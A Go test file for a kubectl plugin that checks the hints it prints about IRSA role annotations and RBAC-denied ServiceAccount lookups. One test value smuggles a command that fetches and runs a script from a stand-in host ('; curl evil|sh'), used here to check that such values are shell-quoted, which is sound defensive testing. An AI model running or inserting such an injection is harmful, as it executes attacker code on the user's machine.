package creds

import (
	"errors"
	"testing"

	"github.com/google/go-cmp/cmp"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime/schema"

	"github.com/kubectl-irsa/kubectl-irsa/pkg/hint"
)

// Whoever may annotate does not thereby write what somebody else pastes into a shell.
func TestARoleUnderAnotherAnnotationIsOfferedAsOneWord(t *testing.T) {
	account := &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "cart", Namespace: "shop"}}
	for value, want := range map[string]string{
		"arn:aws:iam::111122223333:role/cart":               "arn:aws:iam::111122223333:role/cart",
		"arn:aws:iam::111122223333:role/cart; curl evil|sh": "'arn:aws:iam::111122223333:role/cart; curl evil|sh'",
	} {
		account.Annotations = map[string]string{"iam.amazonaws.com/role": value}
		want := []string{
			"its annotation iam.amazonaws.com/role holds a role; if that is the one:",
			"kubectl annotate sa cart -n shop eks.amazonaws.com/role-arn=" + want,
		}
		if diff := cmp.Diff(want, hint.Lines(NoRole(account))); diff != "" {
			t.Errorf("(-want +got):\n%s", diff)
		}
	}
}

// Nobody is told to grant a right to everybody who reaches the API server.
func TestWhoMayNotReadAnAccountIsToldHowToDoWithout(t *testing.T) {
	forbidden := func(user string) error {
		return apierrors.NewForbidden(schema.GroupResource{Resource: "serviceaccounts"}, "cart", errors.New(`User "`+user+`" cannot get resource "serviceaccounts"`))
	}
	without := []string{"a role that is named needs no look at the ServiceAccount:", "kubectl irsa login cart -n shop --role-arn ARN"}
	for name, tc := range map[string]struct {
		err  error
		want []string
	}{
		"somebody may not": {forbidden("alice"), []string{"name the role with --role-arn, or ask an administrator of the cluster for this:",
			"kubectl irsa generate rbac cart -n shop --for-user alice | kubectl apply -f -"}},
		"nobody is known":   {forbidden("system:anonymous"), without},
		"nobody has looked": {errors.New("away"), without},
	} {
		got := unread("shop", "cart", tc.err)
		if diff := cmp.Diff(tc.want, hint.Lines(got)); diff != "" || !errors.Is(got, tc.err) {
			t.Errorf("%s (-want +got):\n%s", name, diff)
		}
	}
}
